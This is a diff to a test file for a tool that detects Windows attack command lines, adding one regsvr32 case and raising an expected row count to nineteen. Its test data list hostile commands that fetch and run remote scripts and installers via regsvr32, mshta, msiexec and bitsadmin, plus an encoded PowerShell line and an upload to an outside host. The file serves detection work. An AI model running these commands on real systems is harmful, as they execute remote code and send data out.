@@ -68,6 +68,7 @@ describe('what attacks have in common', () => {
     ['bitsadmin transfers', 'bitsadmin /transfer j http://a.com/x c:\\x'],
     ['rundll32 runs a script or an odd library', 'rundll32.exe javascript:"..\\mshtml,x"'],
     ['regsvr32 loads a script', 'regsvr32 /s /u /i:http://a.com/x.sct scrobj.dll'],
+    ['regsvr32 loads a script', '.\\regsvr32  /u /s c:\\windows\\fonts\\csrss.exe "http://www.a.com/upload" post'],
     ['mshta runs a script', 'mshta http://a.com/x.hta'],
     ['msiexec installs from the network', 'msiexec /q /i http://a.com/x.msi'],
     ['code built or run by tools of .NET', 'C:\\x\\MSBuild.exe a.xml'],
@@ -268,9 +269,9 @@ describe('a table with features', () => {
       ParentProcessName: 'string',
     })
     const table = commandLineTable(log, { distinct: true, least: 1 }).table
-    expect(table.rowCount).toBe(18)
+    expect(table.rowCount).toBe(19)
     expect(String(table.column('CommandLine')[0])).toContain('powershell  -enc LU5vbmlu')
-    // Of the eighteen only the updater's report to its maker is no part of the demonstration.
+    // Of the nineteen only the updater's report to its maker is no part of the demonstration.
     expect(table.column('CommandLine').filter((line) => String(line).includes('GoogleUpdate'))).toHaveLength(1)
   })
 })
